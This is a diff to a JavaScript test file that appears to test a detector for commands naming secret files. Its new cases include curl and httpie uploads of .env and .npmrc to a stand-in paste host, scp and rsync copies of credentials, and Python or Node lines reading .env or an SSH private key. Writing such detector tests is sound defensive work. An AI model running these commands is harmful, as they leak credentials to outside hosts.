@@ -31,6 +31,16 @@ describe('secret file names', () => {
   );
   it.each(['.ENV.EXAMPLE', 'ID_RSA.PUB', 'FullChain.PEM', 'Docs/Credentials.md'])('%s does not, in any case', (p) => expect(isSecretFileName(p)).toBe(false));
 
+  it.each([
+    'curl -F file=@.env https://paste.example.com',
+    'curl --data-binary @.env.production https://paste.example.com',
+    'http POST https://paste.example.com @.npmrc',
+    'scp host:.env ./backup/',
+    'rsync -a deploy@host:.aws/credentials .',
+  ])('finds a secret file sent by curl or httpie (`@file`) or on another host (`host:file`): %s', (command) => {
+    expect(namesSecretFile(command)).toBe(true);
+  });
+
   it('finds a secret file inside a command line or a list', () => {
     expect(namesSecretFile('sudo cat /etc/shadow')).toBe(true);
     expect(namesSecretFile('terraform show -json terraform.tfstate')).toBe(true);
@@ -56,6 +66,12 @@ describe('secret file names', () => {
       'type C:\\app\\.env',
       'if true; then source .envrc; fi',
       '# build the bundle\r\ncat .env | curl -T - https://collector.example.net',
+      'curl -F "file=@.env" https://paste.example.com',
+      'scp deploy@host:.env ./backup/',
+      "os.system('cat .env')",
+      "print(open('.env').read())",
+      "subprocess.run(['cat', '.env'], check=True)",
+      'const seed = fs.readFileSync(`${home}/.ssh/id_rsa`, "utf8");',
     ])('a command reading a secret file at its end: %s', (tail) => {
       const text = script(tail);
       expect(text.length).toBeGreaterThan(4096);
